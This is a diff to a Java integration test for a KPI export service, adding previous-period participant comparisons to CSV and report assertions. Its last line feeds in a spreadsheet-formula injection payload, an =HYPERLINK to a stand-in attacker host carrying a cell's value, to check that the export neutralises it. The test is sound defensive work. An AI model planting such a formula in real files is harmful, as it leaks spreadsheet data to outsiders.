@@ -338,7 +338,8 @@ class KpiIT implements OperationalEndpointsContract {
                 .retrieve().toEntity(String.class);
         assertThat(infinite.getStatusCode().value()).isEqualTo(400);
         assertThat(infinite.getHeaders().getContentType()).isEqualTo(MediaType.APPLICATION_PROBLEM_JSON);
-        assertThat(csv).contains("type;activities;participants").contains("WORKSHOP;1;1").contains("TOTAL;1;1");
+        assertThat(csv).contains("type;activities;participants;previous_period_participants;change_pct").contains("WORKSHOP;1;1;0;")
+                .contains("TOTAL;1;1;0;");
         try (var workbook = new org.dhatim.fastexcel.reader.ReadableWorkbook(new java.io.ByteArrayInputStream(xlsx))) {
             assertThat(workbook.getSheets().map(org.dhatim.fastexcel.reader.Sheet::getName).toList())
                     .contains("reach", "trainings", "coaching", "dissemination", "downloads", "targets");
@@ -358,6 +359,18 @@ class KpiIT implements OperationalEndpointsContract {
                 .containsPattern("<option value=\"kuleuven\" selected=\"selected\">KU Leuven</option>")
                 .contains("<option value=\"kulak\">Campus Kulak</option>");
         assertThat(report).as("a change needs a previous period").contains("id=\"change-directParticipations\">–<");
+
+        // Every KPI is compared with the previous period: the participants per type too.
+        Events.send(Events.activity(network, "w25-" + network, "WORKSHOP", "2025-03-01", 1));
+        Events.send(Events.attended(network, "w25-" + network, "t1", true, "2025-03-01T10:00:00Z"));
+        Events.send(Events.attended(network, "w25-" + network, "t2", true, "2025-03-01T10:00:00Z"));
+        await().atMost(Duration.ofSeconds(20)).until(() -> kpis(network, "2025").get("reach").get("directParticipations").asLong() == 2);
+        String compared = http.get().uri("/api/kpis/export.csv?network={n}&period=2026&table=trainings", network)
+                .header(HttpHeaders.AUTHORIZATION, TestTokens.ops(network)).retrieve().body(String.class);
+        String comparedReport = http.get().uri("/ops/report?network={n}&period=2026", network)
+                .header(HttpHeaders.AUTHORIZATION, TestTokens.ops(network)).retrieve().body(String.class);
+        assertThat(compared).contains("WORKSHOP;1;1;2;-50").contains("TOTAL;1;1;2;-50");
+        assertThat(comparedReport).contains("id=\"before-trainings\">2<").containsPattern("id=\"change-trainings\">-50,0\\s?%<");
 
         // A title typed as a formula is text in the CSV export, not something a spreadsheet runs.
         Events.send(Events.projectPublished(network, "f-" + network, "=HYPERLINK(\"https://evil.example/?\"&A1,\"klik\")"));
